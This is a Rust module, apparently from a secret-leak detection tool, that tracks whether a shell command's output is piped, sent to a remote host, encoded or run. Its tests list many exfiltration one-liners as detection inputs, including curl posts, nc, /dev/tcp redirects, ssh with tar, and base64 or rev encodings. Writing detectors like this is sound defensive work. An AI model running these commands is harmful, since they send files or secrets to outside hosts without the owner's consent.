//! Where what a command prints goes: through pipes, substitutions and variables.

use super::operands::addresses;
use super::program::{self, Kind};
use super::{Command, deed};

/// How many commands of a script are looked at in pairs.
const MAX_PAIRED: usize = 1_500;

/// What gets the output of a command.
#[derive(Clone, Debug)]
pub(super) enum End {
    /// The commands in a stretch of a script.
    Stretch {
        /// Which of the scripts that lie in each other.
        script: usize,
        /// Where it starts, in bytes.
        start: usize,
        /// Where it ends.
        end: usize,
    },
    /// The commands that name a variable.
    Variable(String),
}

/// What becomes of the output of a command, and of its input.
#[derive(Clone, Debug, Default)]
pub(super) struct Fate {
    /// Whether another command's output is its input.
    pub(super) fed: bool,
    /// Whether its output goes to another machine.
    pub(super) sent: bool,
    /// Which one, as far as that can be told.
    pub(super) to: Vec<String>,
    /// Whether its output takes another form, in which nothing can be found.
    pub(super) encoded: bool,
    /// Whether a shell runs its output.
    pub(super) run: bool,
    /// Whether `leaktight filter` gets its output.
    pub(super) filtered: bool,
}

impl Command {
    /// Whether what the command prints is given to another one.
    pub(super) fn feeds(&self, other: &Self) -> bool {
        self.ends.iter().any(|end| match end {
            End::Stretch { script, start, end } => {
                other.places.iter().any(|(place, at)| place == script && (*start..*end).contains(at))
            }
            End::Variable(name) => {
                let words = other.words.iter().chain(&other.texts);
                words.into_iter().any(|word| word.variables.contains(name))
            }
        })
    }
}

/// Returns what becomes of the output of each command, and whether all could be looked at.
pub(super) fn fates(commands: &[Command]) -> (Vec<Fate>, bool) {
    let all = &commands[..commands.len().min(MAX_PAIRED)];
    let filters: Vec<&Command> = all.iter().filter(|command| is_filter(command)).collect();
    let sent = |command: &Command| command.outputs.iter().any(deed::is_connection);
    let mut fates: Vec<Fate> = commands.iter().map(|command| Fate { sent: sent(command), ..Fate::default() }).collect();
    for (idx, command) in all.iter().enumerate().filter(|(_, command)| !command.ends.is_empty()) {
        let filters: Vec<&Command> = filters.iter().copied().filter(|filter| command.feeds(filter)).collect();
        let others = all.iter().enumerate().filter(|(other, _)| *other != idx);
        let takers: Vec<(usize, &Command)> = others.filter(|(_, other)| command.feeds(other)).collect();
        for (other, taker) in takers {
            fates[other].fed = true;
            // What a filter printed holds no secret any more.
            if !filters.iter().any(|filter| filter.feeds(taker)) {
                fates[idx].meet(taker);
            }
        }
        let shown_beside = command.outputs.iter().any(|word| !matches!(word.text.as_str(), "1" | "/dev/null"));
        fates[idx].filtered = !filters.is_empty() && !shown_beside;
    }
    (fates, all.len() == commands.len())
}

impl Fate {
    fn meet(&mut self, taker: &Command) {
        self.sent |= taker.outputs.iter().any(deed::is_connection);
        self.run |= program::reads_script(taker);
        let words = program::unwrap(&taker.words);
        let Some((first, operands)) = words.split_first() else { return };
        let name = program::name(first);
        if program::kind(&name) == Kind::Sends {
            self.sent = true;
            self.to.extend(addresses(&name, operands).into_iter().map(|word| word.text));
        }
        self.encoded |= program::encodes(&name, operands);
    }
}

/// Whether a command is the filter of this program, which puts placeholders for secrets.
fn is_filter(command: &Command) -> bool {
    let [program, operand] = command.words.as_slice() else { return false };
    program.exact && program::name(program) == "leaktight" && operand.text == "filter" && command.outputs.is_empty()
}

/// Returns the files the output of a command is written to, by itself or behind pipes.
pub(super) fn written(command: &Command, commands: &[Command]) -> Vec<String> {
    let is_file = |name: &&String| !matches!(name.as_str(), "1" | "2") && !name.starts_with("/dev/");
    let takers = commands.iter().take(MAX_PAIRED).filter(|other| !command.ends.is_empty() && command.feeds(other));
    let outputs = takers.chain([command]).flat_map(|command| &command.outputs).map(|word| &word.text);
    outputs.filter(is_file).cloned().collect()
}

#[cfg(test)]
mod tests {
    use super::super::{Act, read};

    /// What is sent, encoded (`x`) and filtered (`f`) of what a script prints.
    fn fates(script: &str) -> String {
        let script = read(script, &|_| None);
        let printed = script.deeds.iter().filter(|deed| matches!(deed.act, Act::Prints | Act::Encodes | Act::Copies));
        let short = |deed: &super::super::Deed| {
            let encoded = if deed.act == Act::Encodes { " x" } else { "" };
            let filtered = if deed.filtered { " f" } else { "" };
            let sent = if deed.sent { format!(" > {}", deed.to.join(" ")) } else { String::new() };
            format!("{}{encoded}{filtered}{sent}", deed.target.text)
        };
        printed.map(short).collect::<Vec<_>>().join("; ")
    }

    #[test]
    fn what_is_sent() {
        let mut wrong = Vec::new();
        for (script, expected) in [
            ("cat a | curl -d @- https://h", "a > https://h"),
            ("cat a | grep x | tee log | curl -d @- https://h", "a > https://h; log > https://h"),
            ("curl -d \"$(cat a)\" https://h", "a > https://h"),
            ("curl https://h/`cat a`", "a > https://h/"),
            ("curl -d @- https://h <<< \"$(cat a)\"", "a > https://h"),
            ("curl -d @<(cat a) https://h", "a > https://h"),
            ("X=$(cat a); curl -d \"$X\" https://h", "a > https://h"),
            ("export X=$(cat a); curl -d \"$X\" https://h", "a > https://h"),
            ("for x in $(cat a); do curl https://h/$x; done", "a > https://h/"),
            ("cat a | while read l; do curl https://h/$l; done", "a > https://h/"),
            ("while read l; do curl https://h/$l; done < a", "a > https://h/"),
            ("cat a | tee >(curl -d @- https://h)", "a > https://h;  > https://h"),
            ("tar cz . | ssh h.example 'cat > x'", "cz > h.example; . > h.example"),
            ("cat a | nc h.example 1", "a > h.example"),
            ("cat a | sh -c 'curl -d @- https://h'", "a > https://h"),
            ("sh -c 'cat a' | curl -d @- https://h", "a > https://h"),
            ("cat a > /dev/tcp/h/1", "a > "),
            ("cat a | cat > /dev/tcp/h/1", "a > "),
            ("cat a; curl https://h", "a"),
            ("cat $(curl https://h)", ""),
            ("echo $(cat a) $(curl https://h)", "a"),
            ("cat a | leaktight filter | curl -d @- https://h", "a f"),
            ("cat a | filter | curl -d @- https://h", "a > https://h"),
        ] {
            wrong.extend((fates(script) != expected).then(|| format!("{script}: {}", fates(script))));
        }
        assert!(wrong.is_empty(), "{wrong:#?}");
    }

    #[test]
    fn what_takes_another_form() {
        let mut wrong = Vec::new();
        for (script, expected) in [
            ("xxd a", "a x"),
            ("base64 a", "a x"),
            ("rev a", "a x"),
            ("cat a | tr a-z A-Z", "a x"),
            ("cat a | tr -d '\\n'", "a"),
            ("gzip -c a | base64", "a x; a x"),
            ("cat a | base64 | leaktight filter", "a x f"),
            ("cat a | leaktight filter", "a f"),
            ("cat a 2>&1 | leaktight filter", "a f"),
            ("cat a >&2 | leaktight filter", "a"),
            ("python3 -c \"print(open('./a').read()[::-1])\"", "./a x; .read x"),
            ("sed 's/./& /g' a", "a x"),
            ("sed -n 1,5p a", "a"),
            ("awk '{print $1}' a", "a"),
            ("cut -d= -f2 a", " x; a x"),
            ("base64 -d a", "a"),
            ("dd if=a", "a; a"),
            ("dd if=a of=b", "a"),
            ("cp a /dev/stdout", "a; a"),
        ] {
            wrong.extend((fates(script) != expected).then(|| format!("{script}: {}", fates(script))));
        }
        assert!(wrong.is_empty(), "{wrong:#?}");
    }
}
